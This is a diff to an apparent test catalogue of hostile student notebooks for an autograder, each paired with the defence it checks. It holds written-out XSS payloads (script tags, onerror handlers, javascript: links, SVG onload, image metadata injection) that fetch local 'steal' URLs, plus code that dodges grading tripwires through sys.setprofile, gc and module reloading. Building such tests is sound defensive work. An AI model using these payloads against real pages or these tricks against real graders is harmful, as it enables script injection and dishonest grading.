@@ -44,6 +44,8 @@ class Hostile:
     added: tuple[tuple[str, str], ...] = ()  # (grade_id to add after, source of a new cell)
     metadata: dict[str, dict] = field(default_factory=dict)  # grade_id -> nbgrader metadata to overwrite
     needs_signal_scoping: bool = False  # only safe to run where Landlock scopes signals (ABI 6)
+    markdown: tuple[tuple[str, str], ...] = ()  # (grade_id to add after, source of a new markdown cell)
+    sleepy: tuple[str, ...] = ()  # functions answered right that sleep SLEEP seconds first, on every call
 
 
 def _src(text: str) -> str:
@@ -51,6 +53,11 @@ def _src(text: str) -> str:
 
 
 ZERO = 0.0
+# seconds each call of a slow_but_right function waits: just under the hostile batch's 4 s per call. It
+# waits on NumPy's clock, as the tasks allow NumPy and nothing else (time.sleep is refused before it runs).
+SLEEP = 3
+_WAIT = (f"    until = np.datetime64('now', 'ms') + np.timedelta64({SLEEP * 1000}, 'ms')\n"
+         "    while np.datetime64('now', 'ms') < until:\n        pass\n")
 CATALOGUE = [
     Hostile(
         "loops",
@@ -474,6 +481,196 @@ CATALOGUE = [
         },
         needs_signal_scoping=True,
     ),
+    Hostile(
+        "exit_answers",
+        "answers whose special methods raise what is not an Exception: __float__ raises SystemExit, __array__, "
+        "__eq__ and __hash__ KeyboardInterrupt, __len__ and __iter__ GeneratorExit, __repr__ and __float__ a "
+        "BaseException of its own; project is right but leaves objects whose __del__ raises KeyboardInterrupt",
+        "the worker reads every answer as plain data (numbers, repr, type name) inside the sandbox under its own "
+        "except BaseException; the grader receives only that data, never an object or an exception to re-raise, "
+        "so each trick costs its own cell and the rest of the notebook and the batch are graded",
+        answers={
+            "dot_loop": _src("""
+                class Bye:
+                    def __float__(self):
+                        raise SystemExit("bye")
+                    def __repr__(self):
+                        return "Bye()"
+
+                def dot_loop(a, b):
+                    if len(a) != len(b):
+                        raise ValueError(f"a has length {len(a)} but b has length {len(b)}")
+                    return Bye()
+            """),
+            "dot": _src("""
+                class Interrupting:
+                    def __array__(self, dtype=None, copy=None):
+                        raise KeyboardInterrupt
+                    def __eq__(self, other):
+                        raise KeyboardInterrupt
+                    def __hash__(self):
+                        raise KeyboardInterrupt
+
+                def dot(a, b):
+                    if len(a) != len(b):
+                        raise ValueError(f"a has length {len(a)} but b has length {len(b)}")
+                    return Interrupting()
+            """),
+            "norm": _src("""
+                class Closing:
+                    def __len__(self):
+                        raise GeneratorExit
+                    def __iter__(self):
+                        raise GeneratorExit
+                    def __getitem__(self, i):
+                        raise GeneratorExit
+
+                def norm(a):
+                    if np.ndim(a) != 1:
+                        raise ValueError(f"expected a 1-D vector, got shape {np.shape(a)}")
+                    return Closing()
+            """),
+            "angle_between": _src("""
+                class Escape(BaseException):
+                    pass
+
+                class Slippery:
+                    def __repr__(self):
+                        raise Escape("no repr")
+                    def __str__(self):
+                        raise Escape("no str")
+                    def __float__(self):
+                        raise Escape("no float")
+
+                def angle_between(a, b, degrees=False):
+                    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
+                    if a.shape != b.shape or a.ndim != 1:
+                        raise ValueError(f"a.shape={a.shape} and b.shape={b.shape} must be equal 1-D shapes")
+                    if not (a @ a) or not (b @ b):
+                        raise ValueError("cannot take the angle with the zero vector")
+                    return Slippery()
+            """),
+            "project": _src("""
+                class Litter:
+                    def __del__(self):
+                        raise KeyboardInterrupt
+
+                def project(a, onto):
+                    Litter()  # garbage whose finaliser raises: the answer is still right
+                    a, onto = np.asarray(a, dtype=float), np.asarray(onto, dtype=float)
+                    if a.shape != onto.shape:
+                        raise ValueError(f"a.shape={a.shape} and onto.shape={onto.shape} must match")
+                    length_sq = float(onto @ onto)
+                    if length_sq == 0:
+                        raise ValueError("cannot project onto the zero vector")
+                    return float(a @ onto) / length_sq * onto
+            """),
+        },
+        expected={"test_dot_loop": ZERO, "test_dot": ZERO, "test_norm": ZERO, "test_angle_between": ZERO},
+    ),
+    Hostile(
+        "feedback_scripts",
+        "every function is right; the notebook displays HTML with a script, an image whose onerror runs code, an "
+        "iframe, a javascript: link and a form, JavaScript, SVG with a script, markdown with a script, a PNG whose "
+        "width metadata carries an event handler, isolated HTML; a markdown cell of its own holds a script: each "
+        "would set the feedback page's title or fetch a URL in the browser of the instructor who opens it",
+        "feedback pages keep only text, sanitised HTML and real PNG/JPEG images with no output metadata; every "
+        "piece of HTML, markdown cells included, goes through an allowlist sanitiser (bleach): what is not "
+        "allowed is shown as text; a browser test opens the page",
+        added=(("dot_loop", _src(r"""
+            from IPython.display import HTML, SVG, Javascript, Markdown, display
+
+            display(HTML(
+                "<script>document.title='pwned-html'; fetch('http://127.0.0.1:9/steal-html')</script>"
+                "<img src='http://127.0.0.1:9/steal-img' onerror=\"document.title='pwned-img'\">"
+                "<iframe srcdoc=\"<script>parent.document.title='pwned-iframe'</script>\"></iframe>"
+                "<a href=\"javascript:document.title='pwned-link'\">click</a>"
+                "<form action='http://127.0.0.1:9/steal-form'><button>go</button></form>"
+                "<b onmouseover=\"document.title='pwned-hover'\">bold text stays</b>"))
+            display(Javascript("document.title='pwned-js'"))
+            display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='pwned-svg'\">"
+                        "<script>document.title='pwned-svg-script'</script></svg>"))
+            display(Markdown("<script>document.title='pwned-md'</script>[x](javascript:alert(1))"))
+            display({"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+                     "text/plain": "a png"}, raw=True,
+                    metadata={"image/png": {"width": "1 onerror=document.title='pwned-width'"}})
+            display({"text/html": "<b>isolated</b><script>document.title='pwned-isolated'</script>"}, raw=True,
+                    metadata={"text/html": {"isolated": True}})
+        """)),),
+        markdown=(("dot_loop", "My notes\n\n<script>document.title='pwned-markdown-cell'</script>\n\n"
+                                "<img src=x onerror=\"document.title='pwned-markdown-img'\">\n"),),
+    ),
+    Hostile(
+        "slow_but_right",
+        "every function is right, and dot, norm, angle_between and project each sleep just under the per-call "
+        "limit on every call: about twenty calls per check make one learner take minutes, a class hours",
+        "a time budget per notebook (c.GradingLimits.notebook_budget) on top of the per-cell and per-call limits: "
+        "every wait on learner code is charged to it; when it runs out the cells not yet decided score zero with "
+        "TimeBudgetExceeded saying why, the grading record flags it, and the batch goes on",
+        sleepy=("dot", "norm", "angle_between", "project"),
+        expected={"test_dot": ZERO, "test_norm": ZERO, "test_angle_between": ZERO, "test_project": ZERO},
+    ),
+    Hostile(
+        "tripwires",
+        "reaches the reference around its tripwires: dot_loop calls it from the package's source compiled again "
+        "under another file name; norm switches the call profile off with sys.setprofile(None) and reloads the "
+        "module; angle_between calls a reloaded copy from another thread; project's cell first finds the "
+        "tripwires with gc and empties them; dot is honest",
+        "the static allowlist refuses these constructs in the learner's source before anything runs; at run time "
+        "the sandbox recognises the reference's code wherever it was compiled, profiles threads started during a "
+        "call, and an audit hook (which Python cannot remove) sees sys.setprofile and gc; a call that used one "
+        "fails, and every one is written to the grading record for the instructor, with its cell",
+        answers={
+            "dot_loop": _src("""
+                import inspect
+                import dotlab.vectors
+
+                _copy = {}
+                exec(compile(inspect.getsource(dotlab.vectors), "my_own_notes.py", "exec"), _copy)
+
+                def dot_loop(a, b):
+                    return _copy["dot_loop"](a, b)
+            """),
+            "norm": _src("""
+                import importlib
+                import sys
+                import dotlab.vectors
+
+                def norm(a):
+                    sys.setprofile(None)
+                    return importlib.reload(dotlab.vectors).norm(a)
+            """),
+            "angle_between": _src("""
+                import importlib
+                import threading
+                import dotlab.vectors
+
+                _fresh = importlib.reload(dotlab.vectors).angle_between
+
+                def angle_between(a, b, degrees=False):
+                    out = []
+                    worker = threading.Thread(target=lambda: out.append(_fresh(a, b, degrees=degrees)))
+                    worker.start()
+                    worker.join()
+                    return out[0]
+            """),
+            "project": _src("""
+                import gc
+                import sys
+                import dotlab
+
+                for _o in gc.get_objects():
+                    if type(_o).__name__ == "Tripwires":
+                        for _names in _o.names.values():
+                            _names.clear()
+                sys.setprofile(None)
+
+                def project(a, onto):
+                    return dotlab.project(a, onto)
+            """),
+        },
+        expected={"test_dot_loop": ZERO, "test_norm": ZERO, "test_angle_between": ZERO, "test_project": ZERO},
+    ),
 ]
 
 
@@ -509,6 +706,11 @@ def build(entry: Hostile) -> nbformat.NotebookNode:
         cells.append(cell)
         for source in added.get(grade_id, []):
             cells.append(nbformat.v4.new_code_cell(source))
+        if grade_id in entry.sleepy:
+            cell.source = cell.source.replace("):\n", f"):\n{_WAIT}", 1)
+        for after, source in entry.markdown:
+            if after == grade_id:
+                cells.append(nbformat.v4.new_markdown_cell(source))
     nb.cells = cells
     nb.metadata["hostile"] = {"attack": entry.attack, "defence": entry.defence, "expected": entry.expected}
     for i, cell in enumerate(nb.cells):
